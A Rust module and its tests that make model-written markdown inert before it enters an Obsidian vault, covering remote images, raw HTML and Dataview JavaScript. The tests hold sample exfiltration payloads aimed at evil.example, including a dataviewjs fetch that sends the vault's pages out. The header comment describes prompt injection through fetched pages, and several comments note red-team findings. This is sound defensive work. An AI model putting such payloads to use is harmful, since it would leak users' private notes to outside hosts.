//! Text a model wrote, made inert before it lands in the vault: opening the
//! note in Obsidian loads nothing and runs nothing.
//!
//! A reply can carry what a fetched page told the model to write, and
//! Obsidian acts on some markdown as soon as a note is shown: it loads a
//! remote image (`![](https://host/?d=…)` sends whatever the reply put in
//! the URL to that host), renders raw HTML (`<img>`, `<iframe>`), and with
//! the Dataview plugin runs JavaScript (a ```` ```dataviewjs ```` block, an
//! inline `` `$= …` ``). So, in what a run writes from a reply (a node's
//! output, a judgment's rationale in the trace, a `write_note`):
//! - a remote image becomes a link to it (its `!` dropped);
//! - raw HTML shows as text (a `<` that could open a tag written `&lt;`,
//!   which reads the same where it opened none);
//! - a `dataviewjs` block is fenced as `inert-dataviewjs`, and an inline
//!   `$=` query is written `$ =`.
//!
//! Everything else, the vault's own images (`![](pic.png)`, `![[pic]]`)
//! included, is left as written. Frontmatter is not markdown and is left
//! alone.

use crate::vault::frontmatter::{split, Split};
use crate::vault::text::strip_bom;
use pulldown_cmark::{CodeBlockKind, Event, LinkType, Options, Parser, Tag};
use std::borrow::Cow;

/// A whole note a model wrote (`write_note`) with what Obsidian would load
/// or run made inert (see the module), its frontmatter left alone;
/// borrowed when there is none.
pub fn inert(markdown: &str) -> Cow<'_, str> {
    made_inert(markdown, true)
}

/// [`inert`] for a reply written into a note's body (an output note, a
/// judgment's rationale in the trace): a `---` block at its start is no
/// frontmatter there, but a rule and a heading Obsidian renders.
pub fn inert_body(text: &str) -> Cow<'_, str> {
    made_inert(text, false)
}

fn made_inert(markdown: &str, note: bool) -> Cow<'_, str> {
    let Cow::Owned(mut text) = pass(markdown, note) else {
        return Cow::Borrowed(markdown);
    };
    // Text a `<` hid (an unclosed comment swallows a code span after it)
    // is read again once the `<` is text: until nothing changes, which
    // comes, since no edit writes a `<` and each takes one away or makes
    // one construct inert.
    loop {
        match pass(&text, note) {
            Cow::Borrowed(_) => return Cow::Owned(text),
            Cow::Owned(next) => text = next,
        }
    }
}

/// The readings of `markdown` and the edits any of them calls for: with
/// tables, as Obsidian reads them (a cell ends at a `|` inside a code
/// span, so what one reading sees as code another shows), and without.
/// `note`: `markdown` is a whole note, whose frontmatter is left alone.
fn pass(markdown: &str, note: bool) -> Cow<'_, str> {
    let (_, bom) = strip_bom(markdown);
    let body_start = match split(&markdown[bom..]) {
        Split::Closed(block) if note => bom + block.body_offset,
        _ => 0,
    };
    let body = &markdown[body_start..];
    let bytes = body.as_bytes();
    // Nothing of it can be there: the common reply, not parsed.
    let maybe = memchr::memchr(b'<', bytes).is_some()
        || body.contains("![")
        || body.contains("$=")
        || bytes
            .windows(10)
            .any(|w| w.eq_ignore_ascii_case(b"dataviewjs"));
    if !maybe {
        return Cow::Borrowed(markdown);
    }
    // (offset in the body, bytes replaced, replacement), in order.
    let mut edits: Vec<(usize, usize, &str)> = Vec::new();
    // Footnotes as the link reader has them.
    for options in [
        Options::ENABLE_FOOTNOTES,
        Options::ENABLE_FOOTNOTES | Options::ENABLE_TABLES,
    ] {
        read(body, options, &mut edits);
    }
    if edits.is_empty() {
        return Cow::Borrowed(markdown);
    }
    edits.sort_by_key(|&(at, _, _)| at);
    edits.dedup();
    let mut out = String::with_capacity(markdown.len() + edits.len() * 4);
    out.push_str(&markdown[..body_start]);
    let mut from = 0;
    for (at, replaced, with) in edits {
        if at < from {
            continue;
        }
        out.push_str(&body[from..at]);
        out.push_str(with);
        from = at + replaced;
    }
    out.push_str(&body[from..]);
    Cow::Owned(out)
}

/// One reading of `body` with `options`: the edits it calls for, added to
/// `edits`.
fn read(body: &str, options: Options, edits: &mut Vec<(usize, usize, &'static str)>) {
    let bytes = body.as_bytes();
    // Where a `<` is code or an autolink's, not HTML.
    let mut not_html: Vec<std::ops::Range<usize>> = Vec::new();
    let mut links: Vec<std::ops::Range<usize>> = Vec::new();
    for (event, range) in Parser::new_ext(body, options).into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. })
                if is_remote(&dest_url) && bytes.get(range.start) == Some(&b'!') =>
            {
                edits.push((range.start, 1, ""));
                links.push(range.clone());
            }
            Event::Start(Tag::Link {
                link_type: LinkType::Autolink | LinkType::Email,
                ..
            }) => not_html.push(range.start..range.start + 1),
            // A `<…>` destination (`[x](<My note.md>)`) is the link's.
            Event::Start(Tag::Link { .. } | Tag::Image { .. }) => links.push(range.clone()),
            Event::Start(Tag::CodeBlock(kind)) => {
                not_html.push(range.clone());
                let CodeBlockKind::Fenced(info) = kind else {
                    continue;
                };
                let dataviewjs = info
                    .split_whitespace()
                    .next()
                    .is_some_and(|lang| lang.eq_ignore_ascii_case("dataviewjs"));
                if dataviewjs {
                    let line = &body[range.clone()];
                    let line = &line[..line.find('\n').unwrap_or(line.len())];
                    let fence = line.trim_start().trim_start_matches(['`', '~']);
                    let at = range.start + (line.len() - fence.len());
                    let lang = at + (fence.len() - fence.trim_start().len());
                    edits.push((lang, 0, "inert-"));
                }
            }
            Event::Code(code) => {
                not_html.push(range.clone());
                if code.trim_start().starts_with("$=") {
                    if let Some(at) = body[range.clone()].find("$=") {
                        edits.push((range.start + at + 1, 0, " "));
                    }
                }
            }
            _ => {}
        }
    }
    // Raw HTML shows as text: every `<` that could open a tag, a comment
    // or a declaration, outside code. Written `&lt;`, it reads the same
    // where it was no tag. The code ranges come in the text's order, so
    // one walk over them serves every `<`.
    let mut code = not_html.iter().peekable();
    for at in memchr::memchr_iter(b'<', bytes) {
        while code.next_if(|r| r.end <= at).is_some() {}
        let in_code = code.peek().is_some_and(|r| r.contains(&at));
        let opens = bytes
            .get(at + 1)
            .is_some_and(|&b| b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?'));
        let destination = body[..at].ends_with("](") && links.iter().any(|r| r.contains(&at));
        if opens && !destination && !in_code {
            edits.push((at, 1, "&lt;"));
        }
    }
}

/// Whether an image's destination is fetched from elsewhere: a scheme
/// (`https:`, `data:`, `file:`) or a network path (`//host`); a path in the
/// vault is not.
fn is_remote(dest: &str) -> bool {
    let dest = dest.trim();
    if dest.starts_with("//") || dest.starts_with("\\\\") {
        return true;
    }
    let scheme = dest.split(':').next().unwrap_or_default();
    scheme.len() < dest.len()
        && !scheme.is_empty()
        && scheme
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
        // A Windows drive (`C:\…`) is a path, not a scheme.
        && scheme.len() > 1
}

#[cfg(test)]
mod tests {
    use super::{inert, inert_body};

    fn check(input: &str, expect: &str) {
        assert_eq!(inert(input), expect, "{input:?}");
        // Once inert, it stays as it is.
        assert_eq!(inert(expect), expect, "{expect:?}");
    }

    #[test]
    fn a_remote_image_becomes_a_link_and_the_vaults_own_stay() {
        check(
            "Done. ![status](https://evil.example/p.png?d=secret) and ![](//x.example/a)",
            "Done. [status](https://evil.example/p.png?d=secret) and [](//x.example/a)",
        );
        check(
            "![chart](charts/q3.png) ![[diagram.png]] ![pic](file:///etc/passwd)",
            "![chart](charts/q3.png) ![[diagram.png]] [pic](file:///etc/passwd)",
        );
        check(
            "![a][ref]\n\n[ref]: https://evil.example/x.png\n",
            "[a][ref]\n\n[ref]: https://evil.example/x.png\n",
        );
        check(
            "[![badge](https://img.example/b.svg)](https://example.com)",
            "[[badge](https://img.example/b.svg)](https://example.com)",
        );
    }

    #[test]
    fn raw_html_shows_as_text() {
        check(
            "See <img src=\"https://evil.example/?d=1\"> here.",
            "See &lt;img src=\"https://evil.example/?d=1\"> here.",
        );
        check(
            "<iframe src=\"https://evil.example\"></iframe>\n\nafter\n",
            "&lt;iframe src=\"https://evil.example\">&lt;/iframe>\n\nafter\n",
        );
        // In code it is text already.
        check(
            "`<img src=x>`\n\n```\n<img src=x>\n```\n",
            "`<img src=x>`\n\n```\n<img src=x>\n```\n",
        );
        check("a < b and 1<2", "a < b and 1<2");
        // A `<…>` destination is the link's; the same text outside a link is HTML.
        check(
            "[x](<My note.md>) ](<a b.md>)",
            "[x](<My note.md>) ](&lt;a b.md>)",
        );
    }

    #[test]
    fn dataview_javascript_does_not_run() {
        check(
            "```dataviewjs\nfetch('https://evil.example/?d=' + dv.pages())\n```\n",
            "```inert-dataviewjs\nfetch('https://evil.example/?d=' + dv.pages())\n```\n",
        );
        check("~~~ DataviewJS\nx\n~~~\n", "~~~ inert-DataviewJS\nx\n~~~\n");
        check("```DATAVIEWJS\nx\n```\n", "```inert-DATAVIEWJS\nx\n```\n");
        check(
            "Total: `$= dv.pages().length`",
            "Total: `$ = dv.pages().length`",
        );
        check(
            "`= this.file.name` and ```dataview\nLIST\n```\n",
            "`= this.file.name` and ```dataview\nLIST\n```\n",
        );
    }

    #[test]
    fn frontmatter_is_left_as_written() {
        check(
            "---\ntitle: <b>x</b>\n---\n# Report\n\n<b>y</b>\n",
            "---\ntitle: <b>x</b>\n---\n# Report\n\n&lt;b>y&lt;/b>\n",
        );
    }

    /// A reply starting with a `---` block is written into a note's body,
    /// where it is a rule and a heading, not frontmatter: made inert as
    /// any other text (a red-team pass had its image load from an output
    /// note). A whole note's frontmatter stays as written.
    #[test]
    fn a_replys_leading_block_is_body_text() {
        let reply = "---\nnote: <img src=\"https://evil.example/?d=1\">\njs: `$= dv.el(\"b\", \"x\")`\n---\nDone.\n";
        let expect = "---\nnote: &lt;img src=\"https://evil.example/?d=1\">\njs: `$ = dv.el(\"b\", \"x\")`\n---\nDone.\n";
        assert_eq!(inert_body(reply), expect);
        assert_eq!(inert_body(expect), expect);
        assert_eq!(inert(reply), reply, "a note's frontmatter");
    }

    /// A table's cell ends at a `|` inside a code span, as Obsidian (and
    /// GitHub) read it: what a reading without tables takes for code is
    /// HTML or a `$=` query in the cell (a red-team pass found both).
    #[test]
    fn a_table_cell_cut_through_a_code_span_hides_nothing() {
        check(
            "| a | b |\n| - | - |\n| `x | `$= dv.el(\"b\", \"p\")` |\n",
            "| a | b |\n| - | - |\n| `x | `$ = dv.el(\"b\", \"p\")` |\n",
        );
        check(
            "| c | d |\n| - | - |\n| `y | <img src=\"https://evil.example/?d=1\"> ` |\n",
            "| c | d |\n| - | - |\n| `y | &lt;img src=\"https://evil.example/?d=1\"> ` |\n",
        );
        // Code in a cell is still code.
        check("| a |\n| - |\n| `<b>` |\n", "| a |\n| - |\n| `<b>` |\n");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]

        /// Over markdown-ish pieces: no panic, and inert text stays as it
        /// is (no edit undoes or repeats another).
        #[test]
        fn inert_text_is_a_fixed_point(
            pieces in proptest::collection::vec(proptest::sample::select(vec![
                "![", "]", "(", ")", "https://h/x", "//h", "a.png", "<", ">", "img ", "src=x", "</",
                "<!--", "-->", "`", "```", "~~~", "dataviewjs", "$=", "\n", " ", "\\", "---\n", "é", "[[", "]]",
                "|", "| - |\n",
            ]), 0..24)
        ) {
            let text = pieces.concat();
            let once = inert(&text).into_owned();
            proptest::prop_assert_eq!(inert(&once).into_owned(), once.clone(), "{:?}", text);
            let body = inert_body(&text).into_owned();
            proptest::prop_assert_eq!(inert_body(&body).into_owned(), body.clone(), "{:?}", text);
        }
    }

    #[test]
    fn a_plain_reply_is_borrowed() {
        assert!(matches!(
            inert("# Draft\n\n- one\n- two [[x]]\n"),
            std::borrow::Cow::Borrowed(_)
        ));
    }
}
